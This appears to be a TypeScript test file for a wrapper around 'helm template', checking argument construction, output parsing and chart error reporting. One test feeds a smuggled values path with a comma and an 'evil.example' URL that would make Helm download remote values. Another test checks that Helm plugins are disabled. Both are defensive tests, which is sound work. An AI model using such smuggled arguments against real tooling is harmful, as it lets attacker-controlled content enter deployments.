import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { helmTemplate, templateProblem } from '../../../../src/tools/helm/template.ts';

interface Recorded {
  readonly args: readonly string[];
  readonly stdout: string;
  readonly stderr: string;
}
const recorded = (name: string): Recorded =>
  JSON.parse(readFileSync(new URL(`../../../fixtures/helm/3.16.4/${name}.json`, import.meta.url), 'utf8')) as Recorded;

describe('helm template', () => {
  it('renders a chart, and the same with a values file', () => {
    const call = { chart: '/work/shop', release: 'shop' };
    const alone = helmTemplate('helm', call);
    assert.deepEqual(alone.args, recorded('values').args);
    assert.deepEqual(
      helmTemplate('helm', { ...call, values: '/work/shop/values-prod.yaml' }).args,
      recorded('prod').args,
    );
    const { stdout } = recorded('values');
    assert.equal(alone.parse({ stdout, stderr: '', exitCode: 0 }), stdout);
  });

  it('attack: a folder with a comma in its name makes Helm download values', () => {
    const { args } = helmTemplate('helm', {
      chart: '/w',
      release: 'x',
      values: '/work/a,https://evil.example/"values.yaml',
    });
    assert.deepEqual(args.slice(-2), ['--values', '"/work/a,https://evil.example/""values.yaml"']);
  });

  it('attack: a plugin of Helm runs', () => {
    assert.deepEqual(helmTemplate('helm', { chart: '/w', release: 'x' }).env, {
      HELM_NO_PLUGINS: '1',
      HELM_PLUGINS: '',
    });
  });

  it('says what is wrong with a chart', () => {
    assert.deepEqual(templateProblem(recorded('dependencies')), {
      reason: 'dependencies',
      detail: 'redis, postgresql',
    });
    assert.match(templateProblem(recorded('required')).detail, /image is required$/);
    assert.deepEqual(templateProblem({ stderr: ' killed\n' }), { detail: 'killed' });
  });
});
